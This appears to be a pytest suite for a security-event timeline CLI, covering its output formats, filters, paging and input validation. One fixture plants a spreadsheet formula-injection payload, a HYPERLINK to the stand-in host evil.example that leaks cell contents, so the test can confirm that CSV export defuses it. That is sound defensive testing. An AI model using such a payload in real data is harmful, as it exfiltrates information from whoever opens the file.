"""``secstate timeline`` in process, on SQLite and PostgreSQL.

The history of test_timeline is recorded through the Ledger; the CLI (reading its store
from SECSTATE_* variables) catches the view up itself and answers.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from test_timeline import (
    ALICE_IP,
    ATTACKER_IP,
    DAY2,
    DAY3,
    STAFF_IP,
    History,
    build_history,
    staff_ctx,
)

from domain import commands as c
from domain.context import Actor, ActorKind, RequestContext, SteppedClock
from domain.errors import LoginRefusedError
from domain.ledger import Ledger
from secstate.cli import common, run
from secstate.cli.common import STATE
from secstate.settings import Settings

CHEAP_ENV = {
    "SECSTATE_ARGON2_TIME_COST": "1",
    "SECSTATE_ARGON2_MEMORY_KIB": "1024",
    "SECSTATE_ARGON2_PARALLELISM": "1",
    "SECSTATE_DKIM_RSA_BITS": "1024",
}
TIMESKETCH_REQUIRED = ("message", "datetime", "timestamp_desc", "timestamp")


@dataclass
class Result:
    code: int
    out: str
    err: str

    def lines(self) -> list[str]:
        return self.out.splitlines()

    def jsonl(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.lines()]

    def csv(self) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(self.out)))


class Cli:
    """``secstate`` run in process against the store of ``settings``."""

    def __init__(
        self, settings: Settings, capsys: pytest.CaptureFixture[str], mp: pytest.MonkeyPatch
    ) -> None:
        self.capsys = capsys
        for name in list(os.environ):
            if name.startswith("SECSTATE_"):
                mp.delenv(name)
        mp.setenv("SECSTATE_HOME", str(settings.home))
        if settings.database_url is not None:
            # postgresql://postgres@127.0.0.1:5432/test?schema=<the test's schema>
            mp.setenv("SECSTATE_DATABASE_URL", settings.database_url.get_secret_value())
        for name, value in CHEAP_ENV.items():
            mp.setenv(name, value)
        mp.setenv("COLUMNS", "250")
        mp.setattr(sys, "stdin", io.StringIO(""))

    def __call__(self, *args: str) -> Result:
        self.capsys.readouterr()
        code = run(["timeline", *args])
        captured = self.capsys.readouterr()
        assert STATE._ledger is None  # run() closed the ledger
        return Result(code, captured.out, captured.err)

    def ok(self, *args: str) -> Result:
        result = self(*args)
        assert result.code == 0, result.err
        return result

    def refused(self, *args: str) -> str:
        """The single error line of a refused invocation."""
        result = self(*args)
        assert result.code == 1, (result.code, result.out, result.err)
        lines = result.err.strip().splitlines()
        assert len(lines) == 1, result.err
        assert lines[0].startswith("error: "), lines[0]
        assert "Traceback" not in result.err + result.out
        assert result.out == ""
        return lines[0]


@pytest.fixture
def history(ledger: Ledger, clock: SteppedClock, ctx: RequestContext) -> History:
    return build_history(ledger, clock, ctx)


@pytest.fixture
def bare_cli(
    settings: Settings, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> Cli:
    """The CLI on an empty store."""
    return Cli(settings, capsys, monkeypatch)


@pytest.fixture
def cli(bare_cli: Cli, history: History) -> Cli:
    """The CLI on the store holding the test history."""
    return bare_cli


# --- output --------------------------------------------------------------------------------


def test_table_lists_events_and_prints_the_next_cursor_on_stderr(cli: Cli) -> None:
    # when
    result = cli.ok("--limit", "3")
    # then
    for heading in ("position", "occurred_at", "actor", "ip", "type", "account/user", "summary"):
        assert heading in result.out
    assert "account 'staff' opened by system:secstate" in result.out
    assert "more events match: --after 3 to continue" in result.err
    # and the cursor continues where the page ended
    nxt = cli.ok("--limit", "1", "--after", "3", "--format", "jsonl")
    assert [e["position"] for e in nxt.jsonl()] == [4]


def test_jsonl_has_one_event_per_line_with_context_fields(cli: Cli) -> None:
    # when
    events = cli.ok("--type", "Account.ApiKeyCreated", "--format", "jsonl").jsonl()
    # then
    (created,) = events
    assert created["summary"] == (
        "API key 'ci-deploy' (mail.send) created by staff:e-042 from 203.0.113.7"
    )
    assert created["actor"] == "staff:e-042"
    assert created["source_ip"] == STAFF_IP
    assert created["account"] == "acme"
    assert created["occurred_at"] == "2026-03-02T11:00:00+00:00"
    assert created["details"]["scopes"] == ["mail.send"]


def test_json_document_holds_events_and_next_after(cli: Cli) -> None:
    # when
    page = json.loads(cli.ok("--user", "alice", "--limit", "2", "--json").out)
    rest = json.loads(cli.ok("--user", "alice", "--after", str(page["next_after"]), "--json").out)
    # then
    assert [e["event_type"] for e in page["events"]] == ["User.Registered", "User.PasswordSet"]
    assert page["next_after"] == page["events"][-1]["position"]
    assert rest["next_after"] is None
    assert rest["events"][0]["position"] > page["next_after"]
    empty = json.loads(cli.ok("--since", "2030-01-01", "--json").out)
    assert empty == {"events": [], "next_after": None}


def test_csv_has_a_header_and_parses(cli: Cli) -> None:
    # when
    rows = cli.ok("--account", "globex", "--format", "csv").csv()
    # then
    types = [r["event_type"] for r in rows]
    assert types[0] == "Account.Opened"
    assert "User.InternalSystemAccessed" in types
    assert json.loads(rows[0]["details"])["name"] == "globex"


@pytest.mark.parametrize("fmt", ["timesketch-jsonl", "timesketch-csv"])
def test_timesketch_formats_carry_its_required_fields(cli: Cli, fmt: str) -> None:
    # when
    result = cli.ok("--ip", ATTACKER_IP, "--format", fmt)
    rows: list[dict[str, Any]] = result.jsonl() if fmt.endswith("jsonl") else result.csv()
    # then
    assert len(rows) == 2
    for row in rows:
        assert list(row)[:4] == list(TIMESKETCH_REQUIRED)
        assert (
            row["message"]
            == f"login of 'Alice' failed: bad_password by user:alice from {ATTACKER_IP}"
        )
        assert row["datetime"] == "2026-03-02T09:00:00+00:00"
        assert row["timestamp_desc"] == "Event Occurred"
        assert int(row["timestamp"]) == int(DAY2.timestamp()) * 1_000_000
        assert row["event_type"] == "User.LoginFailed"
        assert json.loads(row["details"])["reason"] == "bad_password"


HOSTILE_AGENT = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture
def hostile_cli(cli: Cli, ledger: Ledger) -> Cli:
    """The test history plus a failed login whose user agent is a spreadsheet formula."""
    ctx = RequestContext(
        actor=Actor(ActorKind.USER, "alice"), source_ip=ATTACKER_IP, user_agent=HOSTILE_AGENT
    )
    with pytest.raises(LoginRefusedError):
        ledger.login(c.parse_command(c.Login, username="alice", password="Not-Her-Pass-1"), ctx)
    return cli


@pytest.mark.parametrize("fmt", ["csv", "timesketch-csv"])
def test_csv_cells_a_spreadsheet_would_evaluate_are_defused(hostile_cli: Cli, fmt: str) -> None:
    # when
    rows = hostile_cli.ok("--ip", ATTACKER_IP, "--format", fmt).csv()
    # then
    agents = [r["user_agent"] for r in rows]
    assert "'" + HOSTILE_AGENT in agents
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_raw_csv_keeps_cells_verbatim(hostile_cli: Cli) -> None:
    # when
    rows = hostile_cli.ok("--ip", ATTACKER_IP, "--format", "csv", "--raw-csv").csv()
    # then
    assert HOSTILE_AGENT in [r["user_agent"] for r in rows]


def test_output_file_is_written_whole(cli: Cli, tmp_path: Path) -> None:
    # when
    target = tmp_path / "out" / "timeline.jsonl"
    target.parent.mkdir()
    result = cli.ok("--format", "timesketch-jsonl", "--limit", "0", "--output", str(target))
    # then
    assert result.out == ""
    lines = target.read_text().splitlines()
    assert f"wrote {len(lines)} events to {target}" in result.err
    assert all(json.loads(line)["timestamp_desc"] == "Event Occurred" for line in lines)
    assert list(target.parent.iterdir()) == [target]  # no temporary file left


def test_no_secret_appears_in_any_output_format(cli: Cli, history: History) -> None:
    # given: passwords, API token, TOTP seed, recovery codes, stored hashes and sealed blobs
    outputs = [
        cli.ok("--limit", "0", "--format", fmt).out
        for fmt in ("table", "jsonl", "csv", "timesketch-jsonl", "timesketch-csv")
    ]
    outputs.append(cli.ok("--limit", "0", "--json").out)
    text = "\n".join(outputs)
    # then
    assert "TotpEnrolmentStarted" in text
    for secret in history.secrets:
        assert secret not in text
    for field in (
        "password_hash",
        "secret_hash",
        "sealed_seed",
        "sealed_private_key",
        "code_hashes",
    ):
        assert field not in text


# --- filters -------------------------------------------------------------------------------


def test_filters_combine_on_the_command_line(cli: Cli) -> None:
    # when
    events = cli.ok(
        "--account",
        "acme",
        "--actor",
        "staff:e-042",
        "--ip",
        "203.0.113.0/24",
        "--type",
        "*ApiKey*",
        "--type",
        "User.Internal*",
        "--since",
        "2026-03-02",
        "--order",
        "desc",
        "--format",
        "jsonl",
    ).jsonl()
    # then
    assert [e["event_type"] for e in events] == [
        "Account.ApiKeyRevoked",
        "User.InternalSystemAccessed",
        "ApiKeyIndex.Indexed",
        "Account.ApiKeyCreated",
    ]


def test_ipv6_network_and_user_filters(cli: Cli) -> None:
    events = cli.ok("--ip", "2001:db8::/32", "--user", "Alice", "--format", "jsonl").jsonl()
    assert {e["source_ip"] for e in events} == {ATTACKER_IP, ALICE_IP}
    assert {e["username"] for e in events} == {"Alice"}


def test_new_events_are_picked_up_by_the_next_query(
    cli: Cli, ledger: Ledger, clock: SteppedClock
) -> None:
    # given
    before = len(cli.ok("--limit", "0", "--format", "jsonl").lines())
    clock.set(DAY3.replace(hour=20))
    ledger.disable_user(c.parse_command(c.DisableUser, username="bob", reason="left"), staff_ctx())
    # when
    events = cli.ok("--limit", "0", "--format", "jsonl").jsonl()
    # then
    assert len(events) == before + 1
    assert events[-1]["summary"] == "user 'bob' disabled by staff:e-042 from 203.0.113.7: left"


def test_catching_up_far_behind_shows_progress_and_still_answers(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(common, "PROGRESS_THRESHOLD", 1)
    result = cli.ok("--type", "User.LoginSucceeded", "--format", "jsonl")
    assert len(result.jsonl()) == 1


# --- bad input -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--ip", "203.0.113.0/33"], "--ip"),
        (["--ip", "2001:db8::1/32"], "did you mean 2001:db8::/32"),
        (["--since", "2026-03-03", "--until", "2026-03-02"], "is after --until"),
        (["--until", "last tuesday"], "--until: 'last tuesday' is not an ISO 8601 time"),
        (["--account", "initech"], "no account named 'initech'"),
        (["--user", "mallory"], "no user named 'mallory'"),
        (["--actor", "wizard:merlin"], "actor kind 'wizard'"),
        (["--format", "xml"], "--format: must be one of table, jsonl, csv"),
        (["--order", "sideways"], "--order: must be asc or desc"),
        (["--type", "Nope.*"], "'Nope.*' matches no event type"),
        (["--json", "--format", "csv"], "--json and --format csv exclude each other"),
        (["--output", "/nonexistent-dir/x.csv"], "--output: directory /nonexistent-dir"),
    ],
)
def test_bad_input_is_refused_with_one_clear_line(
    bare_cli: Cli, args: list[str], needle: str
) -> None:
    line = bare_cli.refused(*args)
    assert needle in line
